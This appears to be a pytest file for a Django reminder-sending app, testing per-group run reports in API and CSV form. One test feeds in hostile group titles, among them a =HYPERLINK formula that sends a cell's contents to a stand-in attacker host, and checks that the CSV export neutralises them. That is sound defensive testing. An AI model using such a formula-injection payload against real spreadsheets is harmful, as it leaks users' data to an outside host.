"""The run report: every group, one row per part, with the message each part made, when the group finished and
why a group stopped; as CSV from the run page (viewers too) and through the API."""

import csv
import io

import pytest
from django.urls import reverse

from core.models import RunStatus
from reminders.services import PartSpec, reminder_fire
from tests.support.reminders import SENDER, execute, group_id, groups_world, image, make_reminder, posts

pytestmark = pytest.mark.django_db


@pytest.fixture
def run(fanout_world):
    world = fanout_world(
        groups_world(groups=3, faults=[{"op": "send", "chat": group_id(2), "error": "write_forbidden"}])
    )
    reminder = make_reminder(parts=[PartSpec(text="Sale"), PartSpec(album=[image(1), image(2), image(3)])])
    run = execute(reminder_fire(reminder=reminder))
    assert run.status == RunStatus.PARTIAL, run.error_summary
    return world, run


def test_the_api_report_has_a_row_per_group_and_part(api, run):
    world, run = run

    response = api.get(f"/api/reminder-runs/{run.pk}/report/")

    assert response.status_code == 200, response.json()
    rows = response.json()["results"]
    assert [(row["chat"], row["part"], row["status"]) for row in rows] == [
        (group_id(0), 1, "sent"),
        (group_id(0), 2, "sent"),
        (group_id(1), 1, "sent"),
        (group_id(1), 2, "sent"),
        (group_id(2), 1, "failed"),
        (group_id(2), 2, "failed"),
    ]
    text, first, *others = posts(world, group_id(0))
    assert (rows[0]["message_id"], rows[0]["album_message_ids"]) == (text["id"], [])
    assert (rows[1]["message_id"], rows[1]["album_message_ids"]) == (first["id"], [m["id"] for m in others])
    assert rows[0]["sent_at"] and rows[0]["error"] == ""
    assert rows[4]["message_id"] is None and rows[4]["sent_at"] is None and "CHAT_WRITE_FORBIDDEN" in rows[4]["error"]
    assert rows[5]["error"] == ""  # the group stopped at its first part


def test_the_run_page_links_the_csv_and_a_viewer_may_download_it(client, django_user_model, run):
    world, run = run
    client.force_login(django_user_model.objects.create_user(username="viewer", password="s3cret-pass"))

    page = client.get(reverse("reminders:activity-run", args=[run.pk])).content.decode()
    assert reverse("reminders:activity-run-report", args=[run.pk]) in page
    response = client.get(reverse("reminders:activity-run-report", args=[run.pk]))

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert f'filename="reminder-run-{run.pk}.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == 6
    album = [m["id"] for m in posts(world, group_id(1))[1:]]
    assert rows[3]["group"] == "Group 0001" and rows[3]["part"] == "2"
    assert (rows[3]["message_id"], rows[3]["album_message_ids"]) == (str(album[0]), f"{album[1]} {album[2]}")
    assert rows[4]["status"] == "failed" and rows[4]["message_id"] == "" and rows[4]["sent_at"] == ""
    assert world.stats()["calls"][SENDER]["messages.sendMultiMedia"] == 2


def test_the_csv_keeps_a_spreadsheet_from_running_a_groups_title_as_a_formula(fanout_world, operator):
    hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1 deals", "-sale", "@home", "\tnews", "\rnews"]
    world = groups_world(groups=len(hostile))
    for chat, title in zip(world["chats"], hostile, strict=True):
        chat["title"] = title
    fanout_world(world)
    run = execute(reminder_fire(reminder=make_reminder(parts=[PartSpec(text="Sale")])))

    response = operator.get(reverse("reminders:activity-run-report", args=[run.pk]))

    rows = list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
    assert sorted(row["group"] for row in rows) == sorted("'" + title for title in hostile)
    assert all(row["chat"].lstrip("-").isdigit() for row in rows), "numbers stay numbers, a minus sign and all"
